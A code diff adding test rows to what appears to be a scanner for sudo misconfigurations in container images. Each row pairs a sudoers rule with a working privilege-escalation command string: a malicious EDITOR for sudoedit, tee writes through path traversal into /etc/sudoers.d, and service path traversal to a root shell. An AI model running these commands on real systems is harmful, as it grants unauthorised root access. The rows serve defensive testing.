@@ -130,6 +130,30 @@ const ROWS: Row[] = [
   ['settings of sudo, by group 0', 'RUN chmod 660 /etc/sudoers', 'zero', SUDO, 'error', true],
   ['a rule of sudo', 'RUN echo "app ALL=(ALL) NOPASSWD: ALL" >/etc/sudoers.d/app', '1000', 'sudo -n id', 'error', true],
   ['a rule of sudo that asks', 'RUN echo "app ALL=(ALL) ALL" >/etc/sudoers.d/app', '1000', 'sudo -n id', null, false],
+  ...(
+    [
+      ['a folder of sudo', '/usr/bin/', 'env id', 'error', true],
+      ['a pattern of sudo', '/usr/*/e?v', 'env id', 'error', true],
+      ['a pattern of other programs', '/usr/bin/who*', 'env id', 'info', false],
+      ['a regular expression of sudo', '^/usr/bin/[d-f]nv$', '/usr/bin/env id', 'unread', true],
+      ['a folder that USER can write to', '/home/jobs/', '/home/jobs/x', 'error', true],
+      ['sudoedit', 'sudoedit /etc/sudoers.d/app', '', 'error', true],
+      ['a pattern of words', '/usr/bin/tee /var/log/*', '', 'unread', true],
+      ['a script in the working directory', '/bin/sh run.sh', 'sh run.sh', 'unread', true],
+      ['a service', '/usr/sbin/service', 'service ../../bin/sh -c id', 'error', true],
+      ['the words of a service', '/usr/sbin/service x restart', 'service ../../bin/sh -c id', 'info', false],
+      ['a user for su', '/bin/su - app', 'su', 'info', false],
+    ] as const
+  ).map(
+    ([name, command, attack, finding, isRoot]): Row => [
+      name,
+      `RUN install -d -o 1000 /home/jobs && echo 'app ALL=(root) NOPASSWD: ${command}' >/etc/sudoers.d/app`,
+      '1000',
+      `cd /home/jobs; printf '#!/bin/sh\\nid\\n' | tee x run.sh; chmod +x x; printf '#!/bin/sh\\necho "app ALL=NOPASSWD: ALL" >"$1"\\n' >/tmp/e; chmod +x /tmp/e; EDITOR=/tmp/e sudo -n sudoedit /etc/sudoers.d/app || echo 'app ALL=NOPASSWD: ALL' | sudo -n tee /var/log/../../etc/sudoers.d/x; sudo -n ${attack || 'id'}`,
+      finding,
+      isRoot,
+    ],
+  ),
   ['a rule of doas', 'RUN echo "permit nopass app" >/etc/doas.conf', '1000', 'doas -n id', 'error', true],
   [
     'PAM without a password',
